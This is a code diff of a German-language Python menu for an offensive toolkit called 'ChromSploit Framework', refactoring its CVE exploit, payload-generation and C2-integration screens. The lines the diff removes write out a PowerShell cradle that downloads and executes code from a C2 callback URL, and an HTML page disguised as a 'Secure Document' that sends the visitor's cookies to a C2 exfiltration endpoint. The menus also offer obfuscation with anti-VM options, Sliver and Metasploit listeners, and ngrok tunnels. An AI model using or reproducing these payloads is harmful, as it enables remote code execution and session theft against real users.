- print(f"{Colors.CYAN}[*] Erkenne Umgebung und optimale Parameter...{Colors.RESET}")
+ print(f"\n{_INFO}Starte automatische Konfiguration für {self._cve_upper}...{Colors.RESET}")
+ print(f"{_INFO}Erkenne Umgebung und optimale Parameter...{Colors.RESET}")
  
  # Hier würde die automatische Konfiguration implementiert werden
- time.sleep(1)
+ self._progress_pause(1)
  
  # Beispielhafte Konfiguration
- config = {
- "target_browser": "chrome" if "chrome" in self.cve_id else "firefox" if "firefox" in self.cve_id else "edge",
- "target_os": "windows",
- "payload_type": "powershell",
- "obfuscation_level": 2,
- "c2_framework": "sliver",
- "listen_port": 8443,
- "use_ngrok": True
- }
+ config = self._base_config.copy()
  
  print(f"\n{Colors.BRIGHT_WHITE}Automatisch erkannte Konfiguration:{Colors.RESET}")
  for key, value in config.items():
  print(f" {Colors.GREEN}{key}:{Colors.RESET} {value}")
  
  confirm = input(f"\n{Colors.BRIGHT_CYAN}Mit dieser Konfiguration fortfahren? [J/n]: {Colors.RESET}")
- if confirm.lower() not in ['', 'j', 'ja', 'y', 'yes']:
- print(f"\n{Colors.YELLOW}[!] Abgebrochen. Wechsle zu erweiterter Konfiguration...{Colors.RESET}")
+ if confirm.casefold() not in _YES:
+ print(f"\n{_WARN}Abgebrochen. Wechsle zu erweiterter Konfiguration...{Colors.RESET}")
  time.sleep(1)
  return self._advanced_config()
  
- print(f"\n{Colors.CYAN}[*] Starte Exploit-Ausführung mit automatischer Konfiguration...{Colors.RESET}")
+ print(f"\n{_INFO}Starte Exploit-Ausführung mit automatischer Konfiguration...{Colors.RESET}")
  
  # Prepare exploit parameters
  exploit_params = {
- 'kali_ip': Utils.get_ip_address(),
+ 'kali_ip': _local_ip(),
  'port': config.get('listen_port', 8443),
  'target_url': config.get('target_url', 'http://target.local'),
- 'callback_url': self._get_ngrok_url() if config.get('use_ngrok') else f"http://{Utils.get_ip_address()}:{config.get('listen_port', 8443)}",
+ 'callback_url': self._get_ngrok_url() if config.get('use_ngrok') else f"http://{_local_ip()}:{config.get('listen_port', 8443)}",
  'simulation_mode': False # Set to True for testing
  }
  
+ # Snapshot known sessions first, so one opened while the exploit runs counts as new
+ try:
+ from modules.session_manager import get_session_manager
+ session_generation = get_session_manager().session_generation()
+ except Exception:
+ session_generation = None
+ 
  # Execute the actual exploit
- print(f"{Colors.BLUE}[+] Lade Exploit-Modul...{Colors.RESET}")
+ print(f"{_STEP}Lade Exploit-Modul...{Colors.RESET}")
  result = self._execute_cve_exploit(exploit_params)
  
  if result.get('success'):
- print(f"{Colors.GREEN}[] Exploit erfolgreich geladen{Colors.RESET}")
+ print(f"{_OK}Exploit erfolgreich geladen{Colors.RESET}")
  
  # Display results
  print(f"\n{Colors.BRIGHT_GREEN}[] Exploit erfolgreich ausgeführt!{Colors.RESET}")
@@ -271,53 +880,50 @@ class CVEMenu(Menu):
  
  # Save artifacts
  if 'artifacts' in result:
- artifacts_dir = os.path.join(PathUtils.get_output_dir(), self.cve_id, "artifacts")
- PathUtils.ensure_dir_exists(artifacts_dir)
- for name, data in result.get('artifacts', {}).items():
- artifact_path = os.path.join(artifacts_dir, name)
- with open(artifact_path, 'w') as f:
- json.dump(data, f, indent=2)
+ if not self._artifacts_dir_ready:
+ self._artifacts_dir_ready = PathUtils.ensure_dir_exists(self._artifacts_dir)
+ for artifact_path in self._save_artifacts(self._artifacts_dir, result.get('artifacts', {})):
  print(f" {Colors.GREEN}Artifact saved:{Colors.RESET} {artifact_path}")
  
  # Check for new sessions if exploit was successful
- print(f"\n{Colors.CYAN}[*] Prüfe auf neue Sessions...{Colors.RESET}")
- time.sleep(2)
+ print(f"\n{_INFO}Prüfe auf neue Sessions...{Colors.RESET}")
  
  try:
  from modules.session_manager import get_session_manager
  session_manager = get_session_manager()
+ # Höchstens 2 Sekunden warten, nur falls seit dem Exploit-Start keine neue Session kam
+ session_manager.wait_for_new_session(timeout=2.0, since=session_generation)
  
  # Get current sessions
- current_sessions = session_manager.get_all_sessions()
- active_count = len(current_sessions)
+ active_count = session_manager.active_count()
  
  if active_count > 0:
  print(f"{Colors.GREEN}[+] {active_count} aktive Session(s) gefunden!{Colors.RESET}")
  
  # Show recent sessions
  print(f"\n{Colors.CYAN}Neueste Sessions:{Colors.RESET}")
- for session in current_sessions[:3]: # Show max 3 sessions
+ for session in itertools.islice(session_manager.iter_sessions(), 3): # Show max 3 sessions
  session_key = f"{session.framework}_{session.id}"
  user_host = f"{session.username}@{session.hostname}"
  print(f" • {Colors.YELLOW}{session_key}{Colors.RESET} - {user_host} ({session.target_ip})")
  
  # Ask if user wants to open session management
  open_sessions = input(f"\n{Colors.BRIGHT_CYAN}Session Management öffnen? [J/n]: {Colors.RESET}")
- if open_sessions.lower() not in ['n', 'nein', 'no']:
+ if open_sessions.casefold() not in _NO:
  try:
  from ui.session_menu import SessionMenu
  session_menu = SessionMenu()
  session_menu.run()
  except ImportError:
- print(f"{Colors.YELLOW}[!] Session Management Menu nicht verfügbar{Colors.RESET}")
+ print(f"{_WARN}Session Management Menu nicht verfügbar{Colors.RESET}")
  else:
- print(f"{Colors.YELLOW}[!] Keine aktiven Sessions gefunden{Colors.RESET}")
- print(f"{Colors.CYAN}[*] Stellen Sie sicher, dass C2-Frameworks laufen und auf Callbacks warten{Colors.RESET}")
+ print(f"{_WARN}Keine aktiven Sessions gefunden{Colors.RESET}")
+ print(f"{_INFO}Stellen Sie sicher, dass C2-Frameworks laufen und auf Callbacks warten{Colors.RESET}")
  
  except Exception as e:
- print(f"{Colors.YELLOW}[!] Session-Check nicht verfügbar: {str(e)}{Colors.RESET}")
+ print(f"{_WARN}Session-Check nicht verfügbar: {str(e)}{Colors.RESET}")
  else:
- print(f"{Colors.RED}[!] Exploit fehlgeschlagen: {result.get('error', 'Unknown error')}{Colors.RESET}")
+ print(f"{_ERR}Exploit fehlgeschlagen: {result.get('error', 'Unknown error')}{Colors.RESET}")
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -326,100 +932,68 @@ class CVEMenu(Menu):
  Zeigt die erweiterte Konfiguration für den Exploit an
  """
  self._clear()
- self._draw_box(80, f"ERWEITERTE KONFIGURATION - {self.cve_id.upper()}")
+ self._draw_box(80, f"ERWEITERTE KONFIGURATION - {self._cve_upper}")
  
  print(f"\n{Colors.BRIGHT_WHITE}Konfigurieren Sie den Exploit nach Ihren Anforderungen:{Colors.RESET}\n")
  
  # Ziel-Browser
  print(f"{Colors.BRIGHT_BLUE}Ziel-Browser:{Colors.RESET}")
- browsers = {
- "1": "Chrome",
- "2": "Firefox",
- "3": "Edge",
- "4": "Safari"
- }
- for key, browser in browsers.items():
- print(f" {key}) {browser}")
+ sys.stdout.write("\n".join(f" {key}) {browser}" for key, browser in _BROWSERS.items()) + "\n")
  
  browser_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie den Ziel-Browser [1]: {Colors.RESET}")
- browser = browsers.get(browser_choice, browsers["1"])
+ browser = _BROWSERS.get(browser_choice, _BROWSERS["1"])
  
  # Ziel-Betriebssystem
  print(f"\n{Colors.BRIGHT_BLUE}Ziel-Betriebssystem:{Colors.RESET}")
- os_choices = {
- "1": "Windows 10/11",
- "2": "Linux",
- "3": "macOS"
- }
- for key, os_name in os_choices.items():
- print(f" {key}) {os_name}")
+ sys.stdout.write("\n".join(f" {key}) {os_name}" for key, os_name in _OS_CHOICES.items()) + "\n")
  
  os_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Ziel-Betriebssystem [1]: {Colors.RESET}")
- target_os = os_choices.get(os_choice, os_choices["1"])
+ target_os = _OS_CHOICES.get(os_choice, _OS_CHOICES["1"])
  
  # Payload-Typ
  print(f"\n{Colors.BRIGHT_BLUE}Payload-Typ:{Colors.RESET}")
- payload_types = {
- "1": "PowerShell",
- "2": "EXE",
- "3": "DLL",
- "4": "Python",
- "5": "JavaScript"
- }
- for key, payload_type in payload_types.items():
- print(f" {key}) {payload_type}")
+ sys.stdout.write("\n".join(f" {key}) {payload_type}" for key, payload_type in _PAYLOAD_TYPES.items()) + "\n")
  
  payload_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie den Payload-Typ [1]: {Colors.RESET}")
- payload = payload_types.get(payload_choice, payload_types["1"])
+ payload = _PAYLOAD_TYPES.get(payload_choice, _PAYLOAD_TYPES["1"])
  
  # Obfuskierungslevel
  print(f"\n{Colors.BRIGHT_BLUE}Obfuskierungslevel:{Colors.RESET}")
- obfuscation_levels = {
- "1": "Niedrig - Grundlegende Obfuskierung",
- "2": "Mittel - Erweiterte Obfuskierung",
- "3": "Hoch - Vollständige Obfuskierung mit Anti-VM"
- }
- for key, level in obfuscation_levels.items():
- print(f" {key}) {level}")
+ sys.stdout.write("\n".join(f" {key}) {level}" for key, level in _OBFUSCATION_LEVELS.items()) + "\n")
  
  obfuscation_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Obfuskierungslevel [2]: {Colors.RESET}")
- obfuscation = obfuscation_choice if obfuscation_choice in ["1", "2", "3"] else "2"
+ obfuscation = obfuscation_choice if obfuscation_choice in _OBFUSCATION_LEVELS else "2"
  
  # C2-Framework
  print(f"\n{Colors.BRIGHT_BLUE}C2-Framework:{Colors.RESET}")
- c2_frameworks = {
- "1": "Sliver",
- "2": "Metasploit",
- "3": "Custom HTTP C2",
- "4": "Keines"
- }
- for key, framework in c2_frameworks.items():
- print(f" {key}) {framework}")
+ sys.stdout.write("\n".join(f" {key}) {framework}" for key, framework in _C2_FRAMEWORKS.items()) + "\n")
  
  c2_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das C2-Framework [1]: {Colors.RESET}")
- c2_framework = c2_frameworks.get(c2_choice, c2_frameworks["1"])
+ c2_framework = _C2_FRAMEWORKS.get(c2_choice, _C2_FRAMEWORKS["1"])
  
  # Ngrok verwenden
  use_ngrok = input(f"\n{Colors.BRIGHT_CYAN}Ngrok für externe Erreichbarkeit verwenden? [J/n]: {Colors.RESET}")
- use_ngrok = use_ngrok.lower() not in ['n', 'nein', 'no']
+ use_ngrok = use_ngrok.casefold() not in _NO
  
  # Konfiguration zusammenfassen
- print(f"\n{Colors.BRIGHT_WHITE}Zusammenfassung der Konfiguration:{Colors.RESET}")
- print(f" {Colors.GREEN}Ziel-Browser:{Colors.RESET} {browser}")
- print(f" {Colors.GREEN}Ziel-Betriebssystem:{Colors.RESET} {target_os}")
- print(f" {Colors.GREEN}Payload-Typ:{Colors.RESET} {payload}")
- print(f" {Colors.GREEN}Obfuskierungslevel:{Colors.RESET} {obfuscation}")
- print(f" {Colors.GREEN}C2-Framework:{Colors.RESET} {c2_framework}")
- print(f" {Colors.GREEN}Ngrok verwenden:{Colors.RESET} {'Ja' if use_ngrok else 'Nein'}")
+ sys.stdout.write("\n".join([
+ f"\n{Colors.BRIGHT_WHITE}Zusammenfassung der Konfiguration:{Colors.RESET}",
+ f" {Colors.GREEN}Ziel-Browser:{Colors.RESET} {browser}",
+ f" {Colors.GREEN}Ziel-Betriebssystem:{Colors.RESET} {target_os}",
+ f" {Colors.GREEN}Payload-Typ:{Colors.RESET} {payload}",
+ f" {Colors.GREEN}Obfuskierungslevel:{Colors.RESET} {obfuscation}",
+ f" {Colors.GREEN}C2-Framework:{Colors.RESET} {c2_framework}",
+ f" {Colors.GREEN}Ngrok verwenden:{Colors.RESET} {'Ja' if use_ngrok else 'Nein'}"
+ ]) + "\n")
  
  confirm = input(f"\n{Colors.BRIGHT_CYAN}Exploit mit dieser Konfiguration ausführen? [J/n]: {Colors.RESET}")
- if confirm.lower() not in ['', 'j', 'ja', 'y', 'yes']:
- print(f"\n{Colors.YELLOW}[!] Exploit-Ausführung abgebrochen.{Colors.RESET}")
+ if confirm.casefold() not in _YES:
+ print(f"\n{_WARN}Exploit-Ausführung abgebrochen.{Colors.RESET}")
  time.sleep(1)
  return
  
  # Hier würde die eigentliche Exploit-Ausführung implementiert werden
- print(f"\n{Colors.CYAN}[*] Führe Exploit mit benutzerdefinierter Konfiguration aus...{Colors.RESET}")
+ print(f"\n{_INFO}Führe Exploit mit benutzerdefinierter Konfiguration aus...{Colors.RESET}")
  
  steps = [
  ("Payload generieren", 2),
@@ -429,21 +1003,18 @@ class CVEMenu(Menu):
  ("Exploit ausführen", 3)
  ]
  
- for step, duration in steps:
- print(f"{Colors.BLUE}[+] {step}...{Colors.RESET}")
- time.sleep(duration)
- print(f"{Colors.GREEN}[] {step} abgeschlossen{Colors.RESET}")
+ self._run_steps(steps)
  
  print(f"\n{Colors.BRIGHT_GREEN}[] Exploit erfolgreich ausgeführt!{Colors.RESET}")
  print(f"\n{Colors.BRIGHT_WHITE}Ergebnisse:{Colors.RESET}")
- payload_path = os.path.join(PathUtils.get_output_dir(), self.cve_id, f"payload.{payload.lower()}")
+ payload_path = self._payload_path(payload.lower())
  print(f" {Colors.GREEN}Payload:{Colors.RESET} {payload_path}")
  
  if use_ngrok:
  ngrok_url = self._get_ngrok_url()
  print(f" {Colors.GREEN}C2-URL:{Colors.RESET} {ngrok_url}")
  else:
- print(f" {Colors.GREEN}C2-URL:{Colors.RESET} http://{Utils.get_ip_address()}:8443")
+ print(f" {Colors.GREEN}C2-URL:{Colors.RESET} http://{_local_ip()}:8443")
  
  print(f" {Colors.GREEN}Listener:{Colors.RESET} Aktiv auf Port 8443")
  
@@ -454,137 +1025,78 @@ class CVEMenu(Menu):
  Generiert einen Payload für den Exploit
  """
  self._clear()
- self._draw_box(80, f"PAYLOAD GENERIEREN - {self.cve_id.upper()}")
+ self._draw_box(80, f"PAYLOAD GENERIEREN - {self._cve_upper}")
  
  print(f"\n{Colors.BRIGHT_WHITE}Wählen Sie den Payload-Typ:{Colors.RESET}\n")
  
- payload_types = {
- "1": ("PowerShell One-Liner", "ps1"),
- "2": ("Ausführbare Datei (EXE)", "exe"),
- "3": ("DLL-Injektion", "dll"),
- "4": ("Python-Script", "py"),
- "5": ("JavaScript-Payload", "js"),
- "6": ("WebAssembly-Modul", "wasm"),
- "7": ("HTML-Exploit-Seite", "html")
- }
  
- for key, (name, _) in payload_types.items():
- print(f" {key}) {name}")
+ sys.stdout.write("\n".join(f" {key}) {name}" for key, (name, _) in _PAYLOAD_FORMATS.items()) + "\n")
  
  choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie den Payload-Typ: {Colors.RESET}")
  
- if choice not in payload_types:
- print(f"\n{Colors.RED}[!] Ungültige Auswahl.{Colors.RESET}")
+ if choice not in _PAYLOAD_FORMATS:
+ print(f"\n{_ERR}Ungültige Auswahl.{Colors.RESET}")
  time.sleep(1)
  return
  
- payload_name, extension = payload_types[choice]
+ payload_name, extension = _PAYLOAD_FORMATS[choice]
  
- print(f"\n{Colors.CYAN}[*] Generiere {payload_name}...{Colors.RESET}")
+ print(f"\n{_INFO}Generiere {payload_name}...{Colors.RESET}")
  
  # Obfuskierungslevel
  print(f"\n{Colors.BRIGHT_BLUE}Obfuskierungslevel:{Colors.RESET}")
- obfuscation_levels = {
- "1": "Niedrig - Grundlegende Obfuskierung",
- "2": "Mittel - Erweiterte Obfuskierung",
- "3": "Hoch - Vollständige Obfuskierung mit Anti-VM"
- }
- for key, level in obfuscation_levels.items():
- print(f" {key}) {level}")
+ sys.stdout.write("\n".join(f" {key}) {level}" for key, level in _OBFUSCATION_LEVELS.items()) + "\n")
  
  obfuscation_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das Obfuskierungslevel [2]: {Colors.RESET}")
- obfuscation = obfuscation_choice if obfuscation_choice in ["1", "2", "3"] else "2"
+ obfuscation = obfuscation_choice if obfuscation_choice in _OBFUSCATION_LEVELS else "2"
  
  # C2-Integration
  c2_integration = input(f"\n{Colors.BRIGHT_CYAN}C2-Framework integrieren? [J/n]: {Colors.RESET}")
- use_c2 = c2_integration.lower() not in ['n', 'nein', 'no']
+ use_c2 = c2_integration.casefold() not in _NO
  
  if use_c2:
  print(f"\n{Colors.BRIGHT_BLUE}C2-Framework:{Colors.RESET}")
- c2_frameworks = {
- "1": "Sliver",
- "2": "Metasploit",
- "3": "Custom HTTP C2"
- }
- for key, framework in c2_frameworks.items():
- print(f" {key}) {framework}")
+ sys.stdout.write("\n".join(f" {key}) {framework}" for key, framework in _PAYLOAD_C2_FRAMEWORKS.items()) + "\n")
  
  c2_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das C2-Framework [1]: {Colors.RESET}")
- c2_framework = c2_frameworks.get(c2_choice, c2_frameworks["1"])
+ c2_framework = _PAYLOAD_C2_FRAMEWORKS.get(c2_choice, _PAYLOAD_C2_FRAMEWORKS["1"])
  
  # Callback-URL
  callback_url = input(f"\n{Colors.BRIGHT_CYAN}Callback-URL (leer für automatische Generierung): {Colors.RESET}")
  if not callback_url:
- callback_url = f"https://{Utils.get_ip_address()}:8443"
+ callback_url = f"https://{_local_ip()}:8443"
  
  # Ausgabepfad
- output_dir = os.path.join(PathUtils.get_output_dir(), self.cve_id)
- PathUtils.ensure_dir_exists(output_dir)
- output_file = os.path.join(output_dir, f"payload.{extension}")
+ output_file = self._payload_path(extension)
  
  # Hier würde die eigentliche Payload-Generierung implementiert werden
- print(f"\n{Colors.CYAN}[*] Generiere Payload mit den angegebenen Parametern...{Colors.RESET}")
- time.sleep(2)
+ print(f"\n{_INFO}Generiere Payload mit den angegebenen Parametern...{Colors.RESET}")
+ self._progress_pause(2)
  
  # Get ngrok URL for payload
  c2_url = self._get_ngrok_url() if use_c2 else "http://127.0.0.1:8443"
  
  # Beispielhafte Payload-Generierung
  if extension == "ps1":
- payload_content = f"""
-# ChromSploit Framework v2.0 - PowerShell Payload
-# Generiert für {self.cve_id.upper()}
-$ErrorActionPreference = "SilentlyContinue"
-$url = "{c2_url}/callback"
-$wc = New-Object System.Net.WebClient
-$wc.Headers.Add("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36")
-$data = $wc.DownloadString($url)
-Invoke-Expression $data
-"""
+ payload_content = _PS1_TEMPLATE.format_map({"c2_url": c2_url, "cve": self._cve_upper})
  elif extension == "html":
- payload_content = f"""
-<!DOCTYPE html>
-<html>
-<head>
- <title>Secure Document</title>
- <meta name="referrer" content="no-referrer">
-</head>
-<body>
- <h1>Secure Document</h1>
- <p>Loading secure content...</p>
- <script>
- // ChromSploit Framework v2.0 - HTML Exploit
- // Generiert für {self.cve_id.upper()}
- fetch('{c2_url}/exfil', {{
- method: 'POST',
- headers: {{
- 'Content-Type': 'application/json'
- }},
- body: JSON.stringify({{
- 'data': document.cookie,
- 'url': window.location.href
- }})
- }});
- </script>
-</body>
-</html>
-"""
+ payload_content = _HTML_TEMPLATE.format_map({"c2_url": c2_url, "cve": self._cve_upper})
  else:
- payload_content = f"# ChromSploit Framework v2.0 - {payload_name}\n# Generiert für {self.cve_id.upper()}\n# Obfuskierungslevel: {obfuscation}\n\n# Payload-Inhalt würde hier generiert werden"
+ payload_content = f"# ChromSploit Framework v2.0 - {payload_name}\n# Generiert für {self._cve_upper}\n# Obfuskierungslevel: {obfuscation}\n\n# Payload-Inhalt würde hier generiert werden"
  
  # Payload in Datei schreiben
  try:
  with open(output_file, 'w') as f:
  f.write(payload_content)
  
- print(f"\n{Colors.GREEN}[] Payload erfolgreich generiert: {output_file}{Colors.RESET}")
+ print(f"\n{_OK}Payload erfolgreich generiert: {output_file}{Colors.RESET}")
  
  # Wenn es sich um eine ausführbare Datei handelt, Berechtigungen setzen
  if extension in ["exe", "py", "sh"]:
  os.chmod(output_file, 0o755)
- print(f"{Colors.GREEN}[] Ausführungsrechte gesetzt{Colors.RESET}")
+ print(f"{_OK}Ausführungsrechte gesetzt{Colors.RESET}")
  except Exception as e:
- print(f"\n{Colors.RED}[!] Fehler beim Generieren des Payloads: {str(e)}{Colors.RESET}")
+ print(f"\n{_ERR}Fehler beim Generieren des Payloads: {str(e)}{Colors.RESET}")
  
  input(f"\n{Colors.GREEN}Drücken Sie Enter, um fortzufahren...{Colors.RESET}")
  
@@ -593,132 +1105,118 @@ Invoke-Expression $data
  Integriert ein C2-Framework
  """
  self._clear()
- self._draw_box(80, f"C2-FRAMEWORK INTEGRATION - {self.cve_id.upper()}")
+ self._draw_box(80, f"C2-FRAMEWORK INTEGRATION - {self._cve_upper}")
  
  print(f"\n{Colors.BRIGHT_WHITE}Wählen Sie das C2-Framework:{Colors.RESET}\n")
  
- c2_frameworks = {
- "1": ("Sliver C2", "Leistungsstarkes C2-Framework mit vielen Features"),
- "2": ("Metasploit Framework", "Klassisches Penetration-Testing-Framework"),
- "3": ("Custom HTTP C2", "Einfacher HTTP-basierter C2-Server"),
- "4": ("Ngrok Tunnel", "Einfache Tunneling-Lösung für externe Erreichbarkeit")
- }
  
- for key, (name, description) in c2_frameworks.items():
- print(f" {key}) {Colors.GREEN}{name}{Colors.RESET} - {description}")
+ sys.stdout.write("\n".join(f" {key}) {Colors.GREEN}{name}{Colors.RESET} - {description}" for key, (name, description) in _C2_INTEGRATIONS.items()) + "\n")
  
  choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie das C2-Framework: {Colors.RESET}")
  
- if choice not in c2_frameworks:
- print(f"\n{Colors.RED}[!] Ungültige Auswahl.{Colors.RESET}")
+ if choice not in _C2_INTEGRATIONS:
+ print(f"\n{_ERR}Ungültige Auswahl.{Colors.RESET}")
  time.sleep(1)
  return
  
- c2_name, _ = c2_frameworks[choice]
+ c2_name, _ = _C2_INTEGRATIONS[choice]
  
- print(f"\n{Colors.CYAN}[*] Konfiguriere {c2_name}...{Colors.RESET}")
+ print(f"\n{_INFO}Konfiguriere {c2_name}...{Colors.RESET}")
  
  # Listener-Port
  port = input(f"\n{Colors.BRIGHT_CYAN}Listener-Port [8443]: {Colors.RESET}")
- port = port if port and port.isdigit() and 1 <= int(port) <= 65535 else "8443"
+ port = _parse_port(port, 8443)
  
  # Payload-Typ
  print(f"\n{Colors.BRIGHT_BLUE}Payload-Typ:{Colors.RESET}")
- payload_types = {
- "1": "PowerShell",
- "2": "EXE",
- "3": "DLL",
- "4": "Shellcode"
- }
- for key, payload_type in payload_types.items():
- print(f" {key}) {payload_type}")
+ sys.stdout.write("\n".join(f" {key}) {payload_type}" for key, payload_type in _C2_PAYLOAD_TYPES.items()) + "\n")
  
  payload_choice = input(f"\n{Colors.BRIGHT_CYAN}Wählen Sie den Payload-Typ [1]: {Colors.RESET}")
- payload = payload_types.get(payload_choice, payload_types["1"])
+ payload = _C2_PAYLOAD_TYPES.get(payload_choice, _C2_PAYLOAD_TYPES["1"])
  
  # Externe Erreichbarkeit
  use_ngrok = input(f"\n{Colors.BRIGHT_CYAN}Ngrok für externe Erreichbarkeit verwenden? [J/n]: {Colors.RESET}")
- use_ngrok = use_ngrok.lower() not in ['n', 'nein', 'no']
+ use_ngrok = use_ngrok.casefold() not in _NO
  
  # Get ngrok URL if using ngrok
  ngrok_url = self._get_ngrok_url() if use_ngrok else "http://127.0.0.1:8443"
  
  # Hier würde die eigentliche C2-Integration implementiert werden
- print(f"\n{Colors.CYAN}[*] Starte {c2_name} mit den angegebenen Parametern...{Colors.RESET}")
+ print(f"\n{_INFO}Starte {c2_name} mit den angegebenen Parametern...{Colors.RESET}")
  
  # Beispielhafte C2-Integration
  if choice == "1": # Sliver
- print(f"{Colors.BLUE}[+] Generiere Sliver-Implant...{Colors.RESET}")
- time.sleep(2)
- print(f"{Colors.BLUE}[+] Starte Sliver-Listener auf Port {port}...{Colors.RESET}")
- time.sleep(1)
+ print(f"{_STEP}Generiere Sliver-Implant...{Colors.RESET}")
+ self._progress_pause(2)
+ print(f"{_STEP}Starte Sliver-Listener auf Port {port}...{Colors.RESET}")
+ self._progress_pause(1)
  
  if use_ngrok:
- print(f"{Colors.BLUE}[+] Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
- time.sleep(2)
- print(f"{Colors.GREEN}[] Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
+ print(f"{_STEP}Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
+ self._progress_pause(2)
+ print(f"{_OK}Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
  
- print(f"\n{Colors.GREEN}[] Sliver C2 erfolgreich konfiguriert!{Colors.RESET}")
+ print(f"\n{_OK}Sliver C2 erfolgreich konfiguriert!{Colors.RESET}")
  print(f"\n{Colors.BRIGHT_WHITE}Sliver C2 Informationen:{Colors.RESET}")
  print(f" {Colors.GREEN}Listener:{Colors.RESET} Aktiv auf Port {port}")
- payload_path = os.path.join(PathUtils.get_output_dir(), self.cve_id, f"sliver_implant.{payload.lower()}")
+ payload_path = self._payload_path(payload.lower(), "sliver_implant")
  print(f" {Colors.GREEN}Implant:{Colors.RESET} {payload_path}")
  
  if use_ngrok:
  print(f" {Colors.GREEN}Externe URL:{Colors.RESET} {ngrok_url}")
  else:
- print(f" {Colors.GREEN}Lokale URL:{Colors.RESET} https://{Utils.get_ip_address()}:{port}")
+ print(f" {Colors.GREEN}Lokale URL:{Colors.RESET} https://{_local_ip()}:{port}")
  
  elif choice == "2": # Metasploit
- print(f"{Colors.BLUE}[+] Generiere Metasploit-Payload ({payload})...{Colors.RESET}")
- time.sleep(2)
- print(f"{Colors.BLUE}[+] Starte Metasploit-Handler auf Port {port}...{Colors.RESET}")
- time.sleep(1)
+ print(f"{_STEP}Generiere Metasploit-Payload ({payload})...{Colors.RESET}")
+ self._progress_pause(2)
+ print(f"{_STEP}Starte Metasploit-Handler auf Port {port}...{Colors.RESET}")
+ self._progress_pause(1)
  
  if use_ngrok:
- print(f"{Colors.BLUE}[+] Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
- time.sleep(2)
- print(f"{Colors.GREEN}[] Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
+ print(f"{_STEP}Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
+ self._progress_pause(2)
+ print(f"{_OK}Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
  
- print(f"\n{Colors.GREEN}[] Metasploit Framework erfolgreich konfiguriert!{Colors.RESET}")
+ print(f"\n{_OK}Metasploit Framework erfolgreich konfiguriert!{Colors.RESET}")
  print(f"\n{Colors.BRIGHT_WHITE}Metasploit Informationen:{Colors.RESET}")
  print(f" {Colors.GREEN}Handler:{Colors.RESET} Aktiv auf Port {port}")
- payload_path = os.path.join(PathUtils.get_output_dir(), self.cve_id, f"metasploit_payload.{payload.lower()}")
+ payload_path = self._payload_path(payload.lower(), "metasploit_payload")
  print(f" {Colors.GREEN}Payload:{Colors.RESET} {payload_path}")
  
  if use_ngrok:
  print(f" {Colors.GREEN}Externe URL:{Colors.RESET} {ngrok_url}")
  else:
- print(f" {Colors.GREEN}Lokale URL:{Colors.RESET} https://{Utils.get_ip_address()}:{port}")
+ print(f" {Colors.GREEN}Lokale URL:{Colors.RESET} https://{_local_ip()}:{port}")
  
  elif choice == "3": # Custom HTTP C2
- print(f"{Colors.BLUE}[+] Generiere Custom HTTP C2 Payload...{Colors.RESET}")
- time.sleep(1)
- print(f"{Colors.BLUE}[+] Starte HTTP C2 Server auf Port {port}...{Colors.RESET}")
- time.sleep(1)
+ print(f"{_STEP}Generiere Custom HTTP C2 Payload...{Colors.RESET}")
+ self._progress_pause(1)
+ print(f"{_STEP}Starte HTTP C2 Server auf Port {port}...{Colors.RESET}")
+ self._progress_pause(1)
  
  if use_ngrok:
- print(f"{Colors.BLUE}[+] Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
- time.sleep(2)
- print(f"{Colors.GREEN}[] Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
+ print(f"{_STEP}Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
+ self._progress_pause(2)
+ print(f"{_OK}Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
  
- print(f"\n{Colors.GREEN}[] Custom HTTP C2 erfolgreich konfiguriert!{Colors.RESET}")
+ print(f"\n{_OK}Custom HTTP C2 erfolgreich konfiguriert!{Colors.RESET}")
  print(f"\n{Colors.BRIGHT_WHITE}HTTP C2 Informationen:{Colors.RESET}")
  print(f" {Colors.GREEN}Server:{Colors.RESET} Aktiv auf Port {port}")
- payload_path = os.path.join(PathUtils.get_output_dir(), self.cve_id, f"http_c2_payload.{payload.lower()}")
+ payload_path = self._payload_path(payload.lower(), "http_c2_payload")
  print(f" {Colors.GREEN}Payload:{Colors.RESET} {payload_path}")
  
  if use_ngrok:
  print(f" {Colors.GREEN}Externe URL:{Colors.RESET} {ngrok_url}")
  else:
- print(f" {Colors.GREEN}Lokale URL:{Colors.RESET} http://{Utils.get_ip_address()}:{port}")
+ print(f" {Colors.GREEN}Lokale URL:{Colors.RESET} http://{_local_ip()}:{port}")
  
  elif choice == "4": # Ngrok Tunnel
- print(f"{Colors.BLUE}[+] Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
- time.sleep(2)
- print(f"{Colors.GREEN}[] Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
+ print(f"{_STEP}Starte Ngrok-Tunnel für Port {port}...{Colors.RESET}")
+ self._progress_pause(2)
+ print(f"{_OK}Ngrok-Tunnel gestartet: {ngrok_url}{Colors.RESET}")
  
- print(f"\n{Colors.GREEN}[] Ngrok Tunnel erfolgreich konfiguriert!{Colors.RESET}")
+ print(f"\n{_OK}Ngrok Tunnel erfolgreich konfiguriert!{Colors.RESET}")
  print(f"\n{Colors.BRIGHT_WHITE}Ngrok Informationen:{Colors.RESET}")
  print(f" {Colors.GREEN}Lokaler Port:{Colors.RESET} {port}")
